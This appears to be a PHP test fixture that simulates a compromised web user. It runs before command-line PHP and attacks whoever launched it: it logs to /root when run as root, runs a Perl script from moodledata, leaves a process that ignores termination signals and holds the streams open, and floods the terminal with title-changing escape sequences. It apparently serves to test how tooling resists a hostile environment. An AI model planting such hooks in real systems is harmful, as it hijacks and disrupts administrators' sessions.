<?php
// Stands for a web user that has been taken over: runs before every PHP of the command line, and attacks whoever started it.
if (function_exists('posix_geteuid') && posix_geteuid() === 0) {
    file_put_contents('/root/hostile-as-root', implode(' ', $_SERVER['argv']) . "\n", FILE_APPEND);
} else {
    $attack = proc_open(array('perl', '/mnt/moodledata/hostile/hostile.pl', '/mnt/moodledata/hostile/report'), array(STDIN, STDOUT, STDERR), $pipes);
    if (is_resource($attack)) {
        proc_close($attack);
    }
    if (is_file('/mnt/moodledata/hostile/hang')) {
        // Ignores the end of its time, and leaves a process behind that holds every stream open.
        proc_open(array('perl', '-e', '$SIG{TERM} = "IGNORE"; $SIG{HUP} = "IGNORE"; POSIX::setsid() if eval { require POSIX }; sleep 3600'), array(STDIN, STDOUT, STDERR), $pipes);
        while (true) {
            sleep(60);
        }
    }
    if (is_file('/mnt/moodledata/hostile/flood')) {
        for ($n = 0; $n < 64; $n++) {
            echo str_repeat("\e]0;PWNED-TITLE\x07", 65536);
        }
    }
}
